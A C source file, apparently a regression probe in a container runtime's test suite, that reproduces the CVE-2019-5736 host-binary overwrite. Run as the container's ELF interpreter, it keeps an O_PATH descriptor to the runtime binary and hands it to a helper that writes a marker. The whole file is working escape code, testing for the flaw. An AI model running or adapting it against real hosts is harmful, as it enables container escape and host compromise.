/* SPDX-License-Identifier: GPL-2.0-or-later
 * CVE-2019-5736 against a dynamically linked runtime (isc exec runs the
 * `isc` binary): installed in the container's rootfs as the ELF interpreter
 * (/lib64/ld-linux-x86-64.so.2), it runs inside the host's binary when the
 * container's "#!/proc/self/exe" program makes the runtime execute itself
 * there.  Freestanding (no libc: it is loaded as an interpreter, and a libc
 * would set itself up from the main program's headers): it keeps an O_PATH
 * fd of /proc/self/exe (without O_CLOEXEC) and executes the container's
 * probe ("write-fd"), which reopens the binary for writing once this image
 * is gone and writes a marker.  Reports "OPENED target" (then the probe:
 * "WRITE ok" or "WRITE-ERR errno") on stdout.
 * Built with: gcc -static -nostdlib -ffreestanding -fno-builtin -fno-stack-protector -fno-pie -no-pie -O2 */
#include <asm/unistd.h>
#include <fcntl.h>

#ifndef O_PATH
#define O_PATH 010000000
#endif

static long sys6(long n, long a, long b, long c, long d)
{
	long ret;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return ret;
}

static unsigned long len(const char *s)
{
	unsigned long n = 0;
	while (s[n])
		n++;
	return n;
}

static void out(const char *s)
{
	sys6(__NR_write, 1, (long)s, (long)len(s), 0);
}

static void out_num(long v)
{
	char b[24];
	int i = 23;
	b[i] = '\0';
	if (v == 0)
		b[--i] = '0';
	while (v > 0) {
		b[--i] = (char)('0' + v % 10);
		v /= 10;
	}
	out(b + i);
}

static const char marker[] = "ISC-CVE-2019-5736-MARKER";

void entry(void)
{
	long fd = sys6(__NR_open, (long)"/proc/self/exe", O_PATH, 0, 0); /* kept across the execve */
	if (fd < 0) {
		out("OPEN-ERR ");
		out_num(-fd);
		out("\n");
		sys6(__NR_exit_group, 1, 0, 0, 0);
	}
	char target[256];
	long k = sys6(__NR_readlink, (long)"/proc/self/exe", (long)target, sizeof target - 1, 0);
	target[k > 0 ? k : 0] = '\0';
	out("OPENED ");
	out(target);
	out("\n");
	/* this image maps the binary (ETXTBSY): the container's own program
	 * takes the fd over and writes once the image is gone */
	char num[8];
	int n = 0;
	char digits[8];
	for (long v = fd; v > 0 || n == 0; v /= 10)
		digits[n++] = (char)('0' + v % 10);
	for (int i = 0; i < n; i++)
		num[i] = digits[n - 1 - i];
	num[n] = '\0';
	char *argv[] = { (char *)"probe", (char *)"write-fd", num, (char *)marker, 0 };
	char *envp[] = { 0 };
	long e = sys6(__NR_execve, (long)"/bin/probe", (long)argv, (long)envp, 0);
	out("EXEC-ERR ");
	out_num(-e);
	out("\n");
	sys6(__NR_exit_group, 1, 0, 0, 0);
}

__asm__(".text\n.global _start\n_start:\n\txor %rbp, %rbp\n\tand $-16, %rsp\n\tcall entry\n\thlt\n");
